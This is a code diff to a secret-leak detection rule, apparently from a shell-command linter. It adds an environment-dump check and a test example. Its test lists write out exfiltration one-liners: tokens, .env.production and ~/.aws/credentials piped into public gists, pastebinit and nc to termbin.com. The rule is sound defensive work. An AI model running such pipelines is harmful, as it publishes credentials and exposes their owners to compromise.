@@ -79,6 +79,9 @@ func leak5PipedSecretRule() Rule {
 				if d == c || !contains(c.Upstream, d.Name) {
 					continue
 				}
+				if dumpsEnv(d) {
+					return d.Name + " pipes the environment, secrets and all, into " + c.Name + ", which publishes it: " + e.F.Command
+				}
 				if s := printsSecret(d); s != "" {
 					return d.Name + " pipes " + s + " into " + c.Name + ", which publishes it: " + e.F.Command
 				}
@@ -93,7 +96,7 @@ func leak5PipedSecretRule() Rule {
 			return ""
 		},
 		[]string{`echo "$NPM_TOKEN" | gh gist create --public -f token.txt -`, `printenv DATABASE_URL | gh gist create -`, `cat ~/.aws/credentials | pastebinit`,
-			`gh auth token | gh issue comment 12 --body-file -`, `cat .env.production | nc termbin.com 9999`, `printf '%s' "$STRIPE_SECRET_KEY" | glab snippet create -t k -f k.txt -`},
+			`gh auth token | gh issue comment 12 --body-file -`, `cat .env.production | nc termbin.com 9999`, `env | grep -i token | gh gist create -`, `printf '%s' "$STRIPE_SECRET_KEY" | glab snippet create -t k -f k.txt -`},
 		[]string{`echo "build log" | gh gist create -`, `cat notes.md | gh issue comment 12 --body-file -`, `echo "$NPM_TOKEN" | npm login --stdin`, `cat .env.example | pastebinit`,
 			`gh auth token | docker login ghcr.io -u me --password-stdin`, `printenv PATH | gh gist create -`})
 }
